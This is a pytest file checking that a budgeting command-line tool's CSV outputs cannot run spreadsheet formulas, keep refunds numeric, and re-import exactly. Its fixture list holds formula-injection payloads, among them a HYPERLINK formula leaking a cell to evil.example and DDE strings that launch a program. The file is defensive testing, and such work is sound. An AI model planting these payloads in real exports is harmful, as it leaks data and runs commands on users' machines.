"""CSV outputs a spreadsheet opens safely: no cell starts a formula, amounts stay numbers, and
`sbp import` of sbp's own CSV gives back the texts exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from inprocess import InProcess

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"refund")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already a text mark",
]


@pytest.fixture
def sbp(tmp_path: Path) -> InProcess:
    home = tmp_path / "home"
    home.mkdir()
    (home / "config.toml").write_text('base_currency = "USD"\n')
    sbp = InProcess(home)
    for number, text in enumerate(FORMULAS):
        sbp.ok(
            "add", "12.50", text, "-c", text[:40], "--note", text, "-d", f"2026-11-0{number + 1}"
        )
    sbp.ok("add", "-d", "2026-11-09", "--", "-3", "-3 returned mug")  # a refund
    sbp.ok("budget", "set", "=1+1", "100")
    return sbp


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: they start a formula and are not plain numbers."""
    found = []
    for row in cells(text):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


@pytest.mark.parametrize(
    "args",
    [
        ["export"],
        ["list", "--month", "2026-11", "--csv"],
        ["report", "--month", "2026-11", "--format", "csv"],
        ["budget", "list", "--csv"],
        ["categories", "--csv"],
        ["status", "--month", "2026-11", "--csv"],
    ],
)
def test_no_csv_output_holds_a_formula(sbp: InProcess, args: list[str]) -> None:
    out = sbp.ok(*args).out

    assert formula_cells(out) == []


def test_negative_amounts_stay_numbers(sbp: InProcess) -> None:
    rows = cells(sbp.ok("export").out)
    refund = next(row for row in rows if row[3] == "'-3 returned mug")

    assert refund[1] == "-3.00"


@pytest.mark.parametrize("args", [["export"], ["list", "--month", "2026-11", "--csv"]])
def test_importing_sbps_own_csv_gives_back_every_text(
    sbp: InProcess, tmp_path: Path, args: list[str]
) -> None:
    exported = tmp_path / "exported.csv"
    exported.write_text(sbp.ok(*args).out)
    fresh = InProcess(tmp_path / "fresh")

    fresh.ok("import", str(exported))

    def texts(store: InProcess) -> list[tuple[str, str, str, str]]:
        listed = json.loads(store.ok("list", "--month", "2026-11", "--json").out)
        return sorted((e["amount"], e["description"], e["category"], e["note"]) for e in listed)

    assert texts(fresh) == texts(sbp)
    assert ("12.50", FORMULAS[0], FORMULAS[0][:40].lower(), FORMULAS[0]) in texts(fresh)
